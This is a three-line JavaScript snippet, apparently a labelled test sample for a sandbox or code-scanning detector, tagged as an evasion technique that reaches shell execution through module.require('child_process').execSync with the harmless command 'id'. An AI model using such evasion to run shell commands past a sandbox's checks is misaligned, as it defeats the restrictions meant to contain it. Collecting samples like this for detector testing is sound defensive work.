// evasion: module.require
// grade: medium; does: shell
module.require("child_process").execSync("id");
